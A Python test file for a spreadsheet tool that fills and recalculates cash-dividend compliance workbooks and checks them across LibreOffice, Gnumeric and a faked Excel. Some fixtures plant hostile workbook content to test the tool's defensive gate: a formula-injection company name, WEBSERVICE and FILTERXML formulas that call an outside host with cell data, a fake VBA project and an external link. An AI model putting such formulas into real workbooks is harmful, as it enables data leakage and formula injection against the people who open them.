"""Issue 24: Python drives the spreadsheet — fill, recalc, selftest.

1. ``xlmodel fill BOOK CASE``: filling an empty model gives, cell for cell, the workbook ``build CASE``
   gives (inputs, formulas, cached results); what the case does not give is kept and said; another
   plan, year or company is refused naming both; never over a file without --force.
2. ``xlmodel recalc``: in LibreOffice and in Gnumeric (each: fails in CI when missing) a stale workbook
   comes back current (``check`` trusts it) and says which engine computed it; what could act outside
   the workbook is never handed to an engine; an engine that hangs is killed with what it started.
3. The Excel adapter, which cannot run here: exercised against a fake xlwings (its calls, in order,
   with the watchdog), and through ``recalc`` and ``selftest`` with that fake.
4. ``xlmodel selftest``: agrees in each engine, and fails, naming plan, case, sheet!cell and both
   values, when a formula of a generated workbook is broken (the self-test can fail).

Hand-worked figure: GCL sample FY2023, min_annual = 10% × distributable profit; 10% × 855,092,128.94 =
85,509,212.89 (tests/test_cli.py); with 800,000,000.00 it is 80,000,000.00 (the rolling need stays 0:
a lower 2023 figure lowers the window's average).
"""

from __future__ import annotations

import copy
import os
import re
import shutil
import threading
import time
from pathlib import Path

import openpyxl
import pytest

import hostile_corpus as hc
from conftest import assert_process_ends, cli
from xlmodel.case import load_case
from xlmodel.errors import XlmodelError
from xlmodel.evaluator import evaluate
from xlmodel.engines import engines
from xlmodel.workbook.layout import SHEETS
from xlmodel.engines.parity import case_layout, sheet_values
from xlmodel.workbook.reader import read_workbook
from xlmodel.workbook.writer import build_workbook

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = {p.stem: p for p in sorted((ROOT / "samples").glob("*.yaml"))}
GCL = "gcl-energy-2022-2024"
GCL_SAMPLE = SAMPLES[GCL]
GCL_MIN_CASH = 85_509_212.89  # 10% × 855,092,128.94
PAYLOAD = '=HYPERLINK("http://x","y")'
ENGINES = ("libreoffice", "gnumeric")


def _all_sheets(path: Path) -> tuple[dict, dict]:
    """(every cell's formula or value, every cell's cached value) over every sheet."""
    wb = openpyxl.load_workbook(path)
    cells = {(ws.title, c.coordinate): c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None}
    return cells, sheet_values(path, tuple(wb.sheetnames))


def _props(path: Path) -> dict:
    return {p.name: p.value for p in openpyxl.load_workbook(path).custom_doc_props}


def _empty_model(tmp_path: Path, case) -> Path:
    return build_workbook(tmp_path / "empty.xlsx", policy=case.policy, evaluation_year=case.evaluation_year)


# ---- 1. fill ---------------------------------------------------------------------------------

@pytest.mark.parametrize("sample", sorted(SAMPLES))
def test_filling_an_empty_model_gives_the_workbook_build_gives(sample, tmp_path, capsys):
    case = load_case(SAMPLES[sample])
    empty = _empty_model(tmp_path, case)
    # one file name for both: the cover names the file it was written as (issue 52.3)
    (tmp_path / "filled").mkdir(), (tmp_path / "built").mkdir()
    filled = tmp_path / "filled" / "book.xlsx"
    code, _, err = cli(capsys, "fill", empty, SAMPLES[sample], "-o", filled)
    assert code == 0, err
    assert err.startswith("已写入 wrote ") and "缓存结果由 xlmodel 评估器计算，为最新" in err
    built = build_workbook(tmp_path / "built" / "book.xlsx", case=case)
    cells_f, cached_f = _all_sheets(filled)
    cells_b, cached_b = _all_sheets(built)
    assert cells_f == cells_b  # every input, label and formula, cell for cell
    assert cached_f == cached_b  # every result xlmodel cached
    assert _props(filled) == _props(built)  # the plan it carries, its versions
    assert len(cached_f) > 1000
    # and it reads back as the case, and check trusts it
    code, out, err = cli(capsys, "check", filled)
    assert code == evaluate(case).exit_code, err
    assert "完整性 Integrity: ✓" in out
    if sample == GCL:
        row = case_layout(case).output_rows["min_cash_dividend"] + 1
        assert cached_f[(SHEETS["summary"], f"C{row}")] == GCL_MIN_CASH


def test_fill_writes_the_case_over_the_workbook_and_keeps_what_it_does_not_give(tmp_path, capsys):
    book = build_workbook(tmp_path / "book.xlsx", case=load_case(GCL_SAMPLE))
    text = GCL_SAMPLE.read_text(encoding="utf-8")
    # the new case: 2023's distributable profit 800,000,000.00, and no 2021 at all
    new = re.sub(r"  - fiscal_year: 2021\n(?:    .*\n)+", "", text)
    new = new.replace("distributable_profit: 855092128.94", "distributable_profit: 800000000.00")
    assert new.count("fiscal_year") == 2
    (tmp_path / "new.yaml").write_text(new, encoding="utf-8")
    code, _, err = cli(capsys, "fill", book, tmp_path / "new.yaml", "-o", tmp_path / "out.xlsx")
    assert code == 0, err
    assert "kept 5 of the workbook's entries the case does not give: 2021 net_profit_attributable" in err, err
    read = read_workbook(tmp_path / "out.xlsx")
    assert read.case.years[2021]["cash_dividend"] == 324_664_922.80  # kept
    assert read.case.years[2023]["distributable_profit"] == 800_000_000.00  # the case's
    rep = evaluate(read.case)
    assert rep.min_cash_dividend == 80_000_000.00  # 10% × 800,000,000.00
    assert read.cached["out_min_cash_dividend"] == 80_000_000.00  # cached current
    assert read.tampered == []
    code, _, err = cli(capsys, "refresh", tmp_path / "out.xlsx", "-o", tmp_path / "refreshed.xlsx")
    assert code == 0, err
    assert read_workbook(tmp_path / "refreshed.xlsx").cached["out_min_cash_dividend"] == 80_000_000.00


@pytest.mark.parametrize("other", ["plan", "year", "company"])
def test_fill_refuses_a_case_for_another_plan_year_or_company(other, tmp_path, capsys):
    case = load_case(GCL_SAMPLE)
    text = GCL_SAMPLE.read_text(encoding="utf-8")
    if other == "plan":
        book = build_workbook(tmp_path / "book.xlsx", policy="houpu-2024-2026", evaluation_year=2024)
        words = ["案例与工作簿的规划不同", GCL, "houpu-2024-2026"]
    elif other == "year":
        book = build_workbook(tmp_path / "book.xlsx", policy=GCL, evaluation_year=2022)
        words = ["案例与工作簿的评估年度不同", "2023", "2022"]
    else:
        book = build_workbook(tmp_path / "book.xlsx", case=case)
        text = text.replace('stock_code: "002015"', 'stock_code: "000001"')  # (a code of the same board)
        words = ["案例与工作簿不是同一家公司", "000001", "002015"]
    (tmp_path / "case.yaml").write_text(text, encoding="utf-8")
    before = sorted(os.listdir(tmp_path))
    code, _, err = cli(capsys, "fill", book, tmp_path / "case.yaml", "-o", tmp_path / "out.xlsx")
    assert code == 2
    assert err.startswith("xlmodel: 案例与工作簿"), err  # Chinese first
    for w in words:
        assert w in err, (w, err)
    assert sorted(os.listdir(tmp_path)) == before  # nothing written


def test_fill_never_overwrites_without_force_and_fills_in_place_with_it(tmp_path, capsys):
    case = load_case(GCL_SAMPLE)
    empty = _empty_model(tmp_path, case)
    before = empty.read_bytes()
    code, _, err = cli(capsys, "fill", empty, GCL_SAMPLE, "-o", empty)
    assert code == 2 and "--force" in err and empty.read_bytes() == before
    code, _, err = cli(capsys, "fill", empty, GCL_SAMPLE, "-o", empty, "--force")
    assert code == 0, err
    assert read_workbook(empty).cached["out_min_cash_dividend"] == GCL_MIN_CASH
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left


def test_fill_refuses_an_interim_amount_of_the_workbook_above_the_case_total(tmp_path, capsys):
    data = copy.deepcopy(load_case(GCL_SAMPLE))
    data.years[2023]["interim_cash_dividend"] = 100_000_000.00  # part of the 205,588,571.24 paid in the year
    book = build_workbook(tmp_path / "book.xlsx", case=data)
    text = GCL_SAMPLE.read_text(encoding="utf-8").replace("cash_dividend: 205588571.24", "cash_dividend: 90000000.00")
    (tmp_path / "case.yaml").write_text(text, encoding="utf-8")
    code, _, err = cli(capsys, "fill", book, tmp_path / "case.yaml", "-o", tmp_path / "out.xlsx")
    assert code == 2 and "interim_cash_dividend (2023)" in err, err
    assert not (tmp_path / "out.xlsx").exists()


# ---- 2. recalc -----------------------------------------------------------------------------------

@pytest.fixture()
def stale_book(tmp_path) -> tuple[Path, str]:
    """The GCL sample with a formula-like company name, its cash dividend then set a fen below the
    minimum in the file itself (the cached results still say it passes: stale)."""
    case = copy.deepcopy(load_case(GCL_SAMPLE))
    case.company["company_name"] = PAYLOAD
    case.notes["cash_dividend"] = PAYLOAD
    built = build_workbook(tmp_path / "built.xlsx", case=case)
    book = hc.Book(built)
    where = book.set_input("in_cash_dividend", round(GCL_MIN_CASH - 0.01, 2))  # (the sample's timeline)
    path = book.save(tmp_path / "stale.xlsx")
    read = read_workbook(path)
    from xlmodel.workbook.compare import cached_differences

    assert cached_differences(read, evaluate(read.case)), "the edit should leave the cached results stale"
    return path, where


@pytest.mark.engines
@pytest.mark.parametrize("engine", ENGINES)
def test_recalc_in_each_engine_gives_a_trusted_check(engine, request, stale_book, tmp_path, capsys):
    request.getfixturevalue(engine)  # fails in CI when the engine is missing
    path, _ = stale_book
    code, out, err = cli(capsys, "recalc", path, "-o", tmp_path / "out.xlsx", "--engine", engine)
    assert code == 0, err
    title = {"libreoffice": "LibreOffice", "gnumeric": "Gnumeric"}[engine]
    assert out.startswith(f"计算引擎 Engine: {title} "), out
    assert "完整性 Integrity: ✓" in out and "总体结论 Overall: 不通过 fail" in out
    assert _props(tmp_path / "out.xlsx")["xlmodel_recalculated_by"].startswith(f"{title} ")
    code, out, err = cli(capsys, "check", tmp_path / "out.xlsx", "--json")
    import json

    [obj] = json.loads(out)
    assert obj["integrity"]["trusted"] is True, obj["integrity"]
    assert obj["overall_status"] == "fail" and code == 1  # a fen short: min_annual fails, as the engine computed
    assert f"last recalculated by xlmodel recalc in '{title} " in err
    read = read_workbook(tmp_path / "out.xlsx")
    assert read.cached["out_min_cash_dividend"] == GCL_MIN_CASH
    # no live formula from the input: the name is still text, no formula holds it
    assert read.case.company["company_name"] == PAYLOAD
    assert not [f for _, f in hc.formulas_of(tmp_path / "out.xlsx") if "HYPERLINK" in f]


def _no_engine(monkeypatch):
    """Any engine launch fails the test."""
    def boom(*a, **k):
        raise AssertionError("an engine was launched")
    for cls in (engines.LibreOffice, engines.Gnumeric, engines.Excel):
        monkeypatch.setattr(cls, "recalculate", boom)
        monkeypatch.setattr(cls, "present", lambda self: True)


def _note_cell(book: hc.Book) -> tuple[str, str]:
    sheet, refs = book.cells_of("in_cash_dividend")
    col, row = hc._split_cell(refs[-1])
    return sheet, f"{hc._col_letter(hc._col_index(col) + 1)}{row}"


@pytest.mark.parametrize("what", ["webservice_note", "name_formula", "external_reference", "macros", "external_link"])
def test_recalc_never_hands_an_engine_what_could_act_outside_the_workbook(what, tmp_path, capsys, monkeypatch):
    _no_engine(monkeypatch)
    book = hc.Book(build_workbook(tmp_path / "built.xlsx", case=load_case(GCL_SAMPLE)))
    if what == "webservice_note":
        sheet, ref = _note_cell(book)
        book.set_formula(sheet, ref, 'WEBSERVICE("http://example.invalid/?"&E7)')
        words = [f"{sheet}!{ref}", "WEBSERVICE"]
    elif what == "name_formula":
        wb = book.text("xl/workbook.xml").replace(
            "</definedNames>", '<definedName name="evil">FILTERXML(WEBSERVICE("http://x"),"//a")</definedName></definedNames>')
        book.set_text("xl/workbook.xml", wb)
        words = ["defined name evil", "FILTERXML", "WEBSERVICE"]
    elif what == "external_reference":
        sheet, ref = _note_cell(book)
        book.set_formula(sheet, ref, "[1]Sheet1!$A$1")
        words = [f"{sheet}!{ref}", "another workbook", "[1]Sheet1!$A$1"]
    elif what == "macros":
        book.set_text("xl/vbaProject.bin", "not really VBA")
        hc.add_content_type(book, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
        hc.add_relationship(book, "xl/_rels/workbook.xml.rels", "rIdX", "http://schemas.microsoft.com/office/2006/"
                            "relationships/vbaProject", "vbaProject.bin")
        words = ["xl/vbaProject.bin: 不允许的内容类型", "macros (VBA)", "xl/_rels/workbook.xml.rels"]
    else:
        book.set_text("xl/externalLinks/externalLink1.xml", "<externalLink/>")
        hc.add_content_type(book, "xl/externalLinks/externalLink1.xml",
                            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        words = ["xl/externalLinks/externalLink1.xml: 不允许的内容类型", "links to other workbooks"]
    path = book.save(tmp_path / "book.xlsx")
    code, _, err = cli(capsys, "recalc", path, "-o", tmp_path / "out.xlsx", "--engine", "libreoffice")
    assert code == 2, err
    assert "不交给电子表格引擎计算 not handed to a spreadsheet engine" in err and "xlmodel refresh" in err
    for w in words:
        assert w in err, (w, err)
    assert not (tmp_path / "out.xlsx").exists()


def test_the_gate_passes_what_xlmodel_and_the_engines_write(tmp_path):
    """Every function of a plan's workbook (with its UDF sheet) passes; Gnumeric's ERROR() print titles too."""
    from xlmodel.plans.loading import load_plan_by_id
    from xlmodel.engines.drive import foreign_content, functions_of, xlmodel_functions

    pol = load_plan_by_id(GCL)
    built = build_workbook(tmp_path / "udf.xlsx", case=load_case(GCL_SAMPLE), udf=True)
    allowed = xlmodel_functions(pol, 2023)
    assert {"ROUND", "SUMPRODUCT", "INDEX", "XLM_MIN_CASH", "ERROR"} <= allowed and "WEBSERVICE" not in allowed
    assert foreign_content(built.read_bytes(), allowed) == []
    assert functions_of('_xlfn.IFS(A1>0,"WEBSERVICE(",1)+\'a(b\'!C1+round(2)') == {"IFS", "ROUND"}
    # a " inside a quoted sheet name opens no string: the call after it is seen (issue 48)
    assert functions_of("'a\"b'!A1&WEBSERVICE(\"x\")&'c\"d'!A1") == {"WEBSERVICE"}


@pytest.mark.skipif(os.name != "posix", reason="process groups (POSIX)")
def test_an_engine_that_hangs_is_killed_with_what_it_started(tmp_path, monkeypatch):
    """A fake soffice that starts a child and hangs: both are gone after the timeout, and the
    message says so (Chinese first)."""
    fake = tmp_path / "soffice"
    pidfile = tmp_path / "child.pid"
    fake.write_text(f"#!/bin/sh\nsleep 300 &\necho $! > {pidfile}\nwait\n")
    fake.chmod(0o755)
    monkeypatch.setattr(engines, "soffice", lambda: str(fake))
    monkeypatch.setattr(engines, "STARTUP", 0.0)
    import xlmodel.engines.recalc as recalc

    monkeypatch.setattr(recalc, "soffice", lambda: str(fake))
    src = build_workbook(tmp_path / "in" / "book.xlsx", case=load_case(GCL_SAMPLE))
    t = time.monotonic()
    with pytest.raises(XlmodelError) as e:
        engines.LibreOffice().recalculate([src], tmp_path / "out", timeout=2)
    assert time.monotonic() - t < 15
    assert str(e.value).startswith("LibreOffice 在 2 秒内未完成，已终止") and "did not finish within 2 s" in str(e.value)
    assert_process_ends(int(pidfile.read_text()))


def test_the_default_engine_is_the_first_present(monkeypatch):
    here = {"excel": False, "libreoffice": True, "gnumeric": True}
    for cls, key in ((engines.Excel, "excel"), (engines.LibreOffice, "libreoffice"), (engines.Gnumeric, "gnumeric")):
        monkeypatch.setattr(cls, "present", lambda self, key=key: here[key])
    assert engines.engine().name == "libreoffice"
    here["excel"] = True
    assert engines.engine().name == "excel"
    here.update(excel=False, libreoffice=False)
    assert engines.engine().name == "gnumeric"
    here["gnumeric"] = False
    with pytest.raises(XlmodelError, match="^未找到电子表格引擎 No spreadsheet engine found"):
        engines.engine()
    with pytest.raises(XlmodelError, match="^未找到 LibreOffice"):
        engines.engine("libreoffice")


# ---- 3. the Excel adapter, against a fake xlwings -------------------------------------------------

class FakeXlwings:
    """What the Excel adapter uses of xlwings: App(visible=, add_book=), its settings and api, books.open,
    Book.save/close, App.quit/kill. A book "saved" is the file it opened, copied: Excel's values would be
    xlmodel's. ``hang``: the step that never returns until the App is killed; ``fail``: the step that raises."""

    def __init__(self, hang: str | None = None, fail: str | None = None, start_fails: bool = False):
        self.log: list = []
        self.hang, self.fail, self.start_fails = hang, fail, start_fails
        self.killed = threading.Event()
        fake = self

        class Api:
            def __setattr__(self, name, value):
                fake.log.append(("api." + name, value))

            def CalculateFull(self):  # noqa: N802 - Excel's COM name
                fake.step("CalculateFull")

            def calculate_full(self):
                fake.step("calculate_full")

        class Book:
            def __init__(self, path):
                self.path = path

            def save(self, path):
                fake.step("save", Path(path).name)
                shutil.copyfile(self.path, path)

            def close(self):
                fake.log.append(("close", Path(self.path).name))

        class Books:
            def open(self, path, **kw):
                fake.step("open", Path(path).name, kw)
                return Book(path)

        class App:
            version, pid = "16.0", 424242

            def __init__(self, **kw):
                fake.log.append(("App", kw))
                if fake.start_fails:
                    raise OSError("Excel.Application is not registered")
                self.api, self.books = Api(), Books()

            def __setattr__(self, name, value):
                if name not in ("api", "books"):
                    fake.log.append((name, value))
                object.__setattr__(self, name, value)

            def calculate(self):
                fake.step("calculate")

            def quit(self):
                fake.step("quit")

            def kill(self):
                fake.log.append(("kill",))
                fake.killed.set()

        self.App = App

    def step(self, name, *args):
        self.log.append((name, *args))
        if name == self.fail:
            raise RuntimeError(f"(fake) {name} failed")
        if name == self.hang:
            self.killed.wait(30)
            raise RuntimeError("(fake) the RPC server is unavailable")  # what a killed Excel's COM call raises


def _books(tmp_path: Path, n: int) -> list[Path]:
    case = load_case(GCL_SAMPLE)
    return [build_workbook(tmp_path / "in" / f"b{i}.xlsx", case=case) for i in range(n)]


@pytest.mark.parametrize("platform", ["win32", "darwin"])
def test_excel_adapter_opens_calculates_saves_and_quits(platform, tmp_path):
    xw = FakeXlwings()
    excel = engines.Excel(xlwings=xw, platform=platform)
    paths = _books(tmp_path, 2)
    outs = excel.recalculate(paths, tmp_path / "out", timeout=30)
    assert outs == [tmp_path / "out" / "b0.xlsx", tmp_path / "out" / "b1.xlsx"] and all(o.is_file() for o in outs)
    full = "CalculateFull" if platform == "win32" else "calculate_full"
    opened = {"update_links": False, "read_only": True, "ignore_read_only_recommended": True, "notify": False,
              "add_to_mru": False}
    want = [("App", {"visible": False, "add_book": False}), ("display_alerts", False), ("screen_updating", False),
            ("enable_events", False)]
    want += [("api.AutomationSecurity", 3)] if platform == "win32" else []
    for p in paths:
        want += [("open", p.name, opened), (full,), ("save", p.name), ("close", p.name)]
    want += [("quit",)]
    assert xw.log == want
    assert excel.label() == "Microsoft Excel 16.0"


def test_excel_adapter_kills_an_excel_that_hangs_and_names_the_step(tmp_path, monkeypatch):
    monkeypatch.setattr(engines, "STARTUP", 0.0)
    xw = FakeXlwings(hang="CalculateFull")
    t = time.monotonic()
    with pytest.raises(XlmodelError) as e:
        engines.Excel(xlwings=xw, platform="win32").recalculate(_books(tmp_path, 1), tmp_path / "out", timeout=1)
    assert time.monotonic() - t < 15
    assert str(e.value).startswith("Excel 在 1 秒内未完成（calculating b0.xlsx），已终止"), str(e.value)
    assert ("kill",) in xw.log and not (tmp_path / "out" / "b0.xlsx").exists()


@pytest.mark.parametrize("step", ["open", "save"])
def test_excel_adapter_reports_a_failure_and_leaves_no_excel(step, tmp_path):
    xw = FakeXlwings(fail=step)
    with pytest.raises(XlmodelError) as e:
        engines.Excel(xlwings=xw, platform="win32").recalculate(_books(tmp_path, 1), tmp_path / "out", timeout=30)
    what = {"open": "opening", "save": "saving"}[step]
    assert str(e.value).startswith(f"Excel 未能完成（{what} b0.xlsx）Excel failed"), str(e.value)
    assert "(fake) " + step + " failed" in str(e.value)
    assert xw.log[-1] in (("quit",), ("kill",))  # quit (or killed): no Excel left running
    if step == "save":
        assert ("close", "b0.xlsx") in xw.log


def test_excel_that_cannot_start_is_a_clear_error(tmp_path):
    with pytest.raises(XlmodelError, match=r"^Excel 未能完成（starting Excel \(xlwings.App\)）.*not registered"):
        engines.Excel(xlwings=FakeXlwings(start_fails=True), platform="win32").recalculate(
            _books(tmp_path, 1), tmp_path / "out", timeout=30)


@pytest.fixture()
def fake_excel(monkeypatch):
    xw = FakeXlwings()
    real = engines.adapters
    monkeypatch.setattr(engines, "adapters", lambda: {**real(), "excel": engines.Excel(xlwings=xw, platform="win32")})
    return xw


def test_recalc_with_excel_through_the_fake(fake_excel, stale_book, tmp_path, capsys):
    """The whole command with the Excel adapter; the fake saves the file it opened, so its results are
    the stale ones: recalc says they differ from the evaluator's and exits 1 (no false reassurance)."""
    path, where = stale_book
    code, out, err = cli(capsys, "recalc", path, "-o", tmp_path / "out.xlsx", "--engine", "excel")
    assert out.startswith("计算引擎 Engine: Microsoft Excel 16.0")
    assert code == 1 and "Microsoft Excel 16.0 的结果与评估器不一致" in err, err
    assert "⚠ 工作簿显示的结果与评估不一致" in out
    assert _props(tmp_path / "out.xlsx")["xlmodel_recalculated_by"].startswith("Microsoft Excel 16.0; xlmodel ")
    opened = [e for e in fake_excel.log if e[0] == "open"]
    assert len(opened) == 1 and fake_excel.log[-1] == ("quit",)
    # a current workbook comes back trusted, exit 0
    good = build_workbook(tmp_path / "good.xlsx", case=load_case(GCL_SAMPLE))
    code, out, err = cli(capsys, "recalc", good, "-o", tmp_path / "good-out.xlsx", "--engine", "excel")
    assert code == 0 and "完整性 Integrity: ✓" in out, err


def test_selftest_with_excel_through_the_fake_opens_one_excel_for_every_workbook(fake_excel, capsys):
    code, out, err = cli(capsys, "selftest", "--engine", "excel", "--cases", "2")
    assert code == 0, out + err
    assert "自检 Self-test — Microsoft Excel 16.0：3 个规划 plans，6 个工作簿 workbooks" in out
    assert [e[0] for e in fake_excel.log].count("App") == 1
    assert [e[0] for e in fake_excel.log].count("CalculateFull") == 6



def _result(aside: dict[str, int], engine: str = "libreoffice"):
    """A self-test's result as LibreOffice gives it for the three bundled plans and one drafted plan installed
    beside them, 20 workbooks each, with ``aside[plan]`` workbooks set aside (a half fen on 计算!H52)."""
    from xlmodel.engines.selftest import PlanResult, Result

    plans = []
    for pid in ("drafted-2024-2026", "far-east-2022-2024", GCL, "houpu-2024-2026"):
        p = PlanResult(pid, "1.0.0", 2024, workbooks=20, cells=1000, years=60)
        for i in range(aside.get(pid, 0)):
            case = f"synthetic:{pid}:20261201:{12 + i}"
            p.aside.append(case)
            p.aside_at.append((case, "计算!H52", 32525291179.49, 32525291179.48))
        plans.append(p)
    return Result(engine, "LibreOffice 7.4.7.2", plans)


def test_selftest_allows_each_plan_its_own_set_aside():
    """Issue 48: one half fen set aside in the bundled GCL plan and one in a drafted plan installed beside it
    pass (each plan may have max(1% of its 20 workbooks, 1) = 1 set aside); it failed ("too many set aside",
    exit 1) when the cap was one workbook for all 80. Each is listed with its cell, LibreOffice's value and
    xlmodel's, and why LibreOffice's differs."""
    from xlmodel.engines.selftest import summary

    result = _result({GCL: 1, "drafted-2024-2026": 1})
    assert result.ok and [result.cap(p) for p in result.plans] == [1, 1, 1, 1]
    text = summary(result)
    assert "结论 Result: ✓ 全部一致" in text and "另计 2 个" in text
    assert f"  · {GCL} 案例 case synthetic:{GCL}:20261201:12 计算!H52：LibreOffice 7.4.7.2 32,525,291,179.48，xlmodel " \
           "32,525,291,179.49" in text.splitlines()
    assert "0.3 × 108,417,637,264.95" in text and "32,525,291,179.484997…" in text  # how LibreOffice comes to .48
    assert any(x.strip().startswith(GCL) and "1 另计 set aside（上限 cap 1）" in x for x in text.splitlines())


def test_selftest_fails_when_one_plan_has_more_set_aside_than_its_cap():
    """Two half fens in one plan of 20 workbooks are one more than its cap of 1: the run fails, naming the plan
    (the other plans' allowance is not lent to it)."""
    from xlmodel.engines.selftest import summary

    result = _result({"drafted-2024-2026": 2})
    assert not result.ok and [p.plan for p in result.over_cap] == ["drafted-2024-2026"]
    text = summary(result)
    assert "结论 Result: ✗ 另计过多 too many set aside (drafted-2024-2026 2 > 1)" in text
    assert "超过上限 more than the cap allows (drafted-2024-2026 2 > 1)" in text
    assert not _result({GCL: 1}, engine="excel").ok  # Excel is the 15-digit reading itself: nothing set aside

# ---- 4. selftest in the real engines -------------------------------------------------------------

@pytest.mark.engines
@pytest.mark.parametrize("engine", ENGINES)
def test_selftest_agrees_in_each_engine(engine, request, capsys):
    request.getfixturevalue(engine)
    code, out, err = cli(capsys, "selftest", "--engine", engine, "--cases", "1")
    assert code == 0, out + err
    lines = out.splitlines()
    assert lines[0].startswith("自检 Self-test — ") and "3 个规划 plans，3 个工作簿 workbooks" in lines[0]
    for plan in ("far-east-2022-2024", GCL, "houpu-2024-2026"):
        assert any(line.strip().startswith(plan) and " 0 处不一致 differences" in line for line in lines), out
    assert "结论 Result: ✓ 全部一致（精确到分）" in out


def _break_a_formula(path: Path, case) -> str:
    """The evaluation year's minimum cash dividend on 计算, its formula + 1 (its cached value kept)."""
    layout = case_layout(case)
    from xlmodel.workbook.layout import col_name

    ref = f"{col_name(layout.col_of(case.evaluation_year))}{layout.calc_rows['min_cash_dividend'] + 1}"
    book = hc.Book(path)
    part = book.sheet_part(SHEETS["calc"])
    xml, n = re.subn(rf'(<c r="{ref}"[^>]*><f>)(.*?)(</f>)', lambda m: f"{m.group(1)}({m.group(2)})+1{m.group(3)}",
                     book.text(part), count=1)
    assert n == 1, ref
    book.set_text(part, xml)
    book.save(path)
    return f"{SHEETS['calc']}!{ref}"


@pytest.mark.engines
@pytest.mark.parametrize("engine", ENGINES)
def test_selftest_fails_when_a_formula_is_broken_and_names_it(engine, request, capsys, monkeypatch):
    request.getfixturevalue(engine)
    from xlmodel.engines import selftest

    real, broken = selftest.build_all, {}

    def build_then_break(jobs, folder, workers=1):
        built = real(jobs, folder, workers)
        pid, case, path = next(b for b in built if b[0] == GCL)
        broken.update(case=case, where=_break_a_formula(path, case))
        return built

    monkeypatch.setattr(selftest, "build_all", build_then_break)
    code, out, err = cli(capsys, "selftest", "--engine", engine, "--cases", "1")
    assert code == 1, out + err
    case = broken["case"]
    assert "结论 Result: ✗ " in out
    line = next((x for x in out.splitlines() if broken["where"] in x), None)
    assert line is not None, out
    assert line.startswith(f"  - {GCL} 案例 case {case.source} {broken['where']}（formula）：")
    assert "xlmodel 缓存值 cached" in line
    # only the broken workbook differs: the other plans agree
    for plan in ("far-east-2022-2024", "houpu-2024-2026"):
        assert any(x.strip().startswith(plan) and " 0 处不一致 differences" in x for x in out.splitlines()), out
    diffs = [x for x in out.splitlines() if x.startswith("  - ")]
    assert diffs and all(x.startswith(f"  - {GCL} 案例 case {case.source} ") for x in diffs), diffs


@pytest.mark.parametrize("args, cases", [((), 6), (("--full",), 20), (("--cases", "3"), 3), (("--cases", "20"), 20)])
def test_selftest_runs_six_cases_a_plan_by_default_and_twenty_with_full(args, cases, capsys, monkeypatch):
    """The default is the quick run (issue 53: within 20 s in LibreOffice): 6 cases a plan, i = 0…5 of the
    parity cases, of which i = 0 and 3 on boundaries (a third); ``--full`` is the whole run of 20 a plan
    (7 on boundaries), and the quick run's summary says so."""
    from xlmodel.engines import selftest

    asked = []

    def fake_run(adapter, policies, n, **kw):
        asked.append(n)
        from xlmodel.engines.selftest import PlanResult, Result

        return Result("libreoffice", "LibreOffice 7", [PlanResult(p.id, p.version, 2024, workbooks=n) for p in policies])

    monkeypatch.setattr(selftest, "run", fake_run)
    monkeypatch.setattr(engines, "engine", lambda name: None)
    code, out, err = cli(capsys, "selftest", *args)
    assert code == 0 and asked == [cases], out + err
    quick = f"这是快速自检（每个规划 {cases} 个案例）；完整自检每个规划 20 个案例：xlmodel selftest --full"
    assert (quick in out) == (cases < 20), out


def test_selftest_refuses_full_with_cases(capsys):
    code, _, err = cli(capsys, "selftest", "--full", "--cases", "3")
    assert code == 2 and "give either --full (every plan's 20 cases) or --cases N, not both" in err


def test_selftest_refuses_a_keep_folder_that_is_not_empty(tmp_path, capsys):
    (tmp_path / "x.txt").write_text("keep me")
    code, _, err = cli(capsys, "selftest", "--keep", tmp_path, "--cases", "1")
    assert code == 2 and "--keep needs a new or empty folder" in err
    assert (tmp_path / "x.txt").read_text() == "keep me"

